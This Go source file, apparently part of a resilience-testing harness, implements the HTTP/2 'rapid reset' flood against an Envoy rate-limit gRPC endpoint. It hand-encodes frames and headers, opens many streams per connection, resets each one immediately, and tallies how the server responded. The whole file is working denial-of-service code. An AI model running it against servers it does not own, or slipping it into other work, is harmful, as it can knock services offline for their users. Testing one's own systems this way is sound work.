package hostile

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"sync"
	"time"
)

// What HTTP/2 begins with, and the types of its frames (RFC 9113).
const (
	preface      = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	frameHeaders = 1
	frameReset   = 3
	frameConfig  = 4
	endHeaders   = 4
)

// frame appends a frame.
func frame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// fields are the headers of a call of the rate limit service (RFC 7541, nothing indexed and nothing Huffman-coded).
func fields() []byte {
	text := func(b []byte, s string) []byte { return append(append(b, byte(len(s))), s...) }
	b := []byte{0x83, 0x86}           // POST, http
	b = text(append(b, 0x01), "node") // :authority
	b = text(append(b, 0x04), "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit")
	b = text(append(b, 0x0f, 0x10), "application/grpc") // content-type
	return text(text(append(b, 0x00), "te"), "trailers")
}

// perRound is how many streams a worker opens and resets in a round.
const perRound = 500

// reset opens streams and resets them at once, as fast as the node lets it, a connection a round. It returns what became of the connections.
func (r *run) reset(ctx context.Context) map[string]int {
	fates := make(map[string]int)
	var mu sync.Mutex
	head := fields()
	r.work(ctx, func(int) {
		fate := resetStreams(ctx, r.target.GRPC, head, r.opt.Patience)
		mu.Lock()
		defer mu.Unlock()
		fates[fate]++
	})
	return fates
}

func resetStreams(ctx context.Context, addr string, head []byte, patience time.Duration) (fate string) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
	if err != nil {
		return "could not be opened"
	}
	var reading sync.WaitGroup
	defer reading.Wait()
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(patience))
	reading.Go(func() { _, _ = io.Copy(io.Discard, conn) })
	if _, err := conn.Write(frame([]byte(preface), frameConfig, 0, 0, nil)); err != nil {
		return "closed by the node"
	}
	cancel := []byte{0, 0, 0, 8}
	var b []byte
	for i := range uint32(perRound) {
		b = frame(frame(b[:0], frameHeaders, endHeaders, 2*i+1, head), frameReset, 0, 2*i+1, cancel)
		if _, err := conn.Write(b); err != nil {
			return "closed by the node"
		}
	}
	return "all streams reset"
}
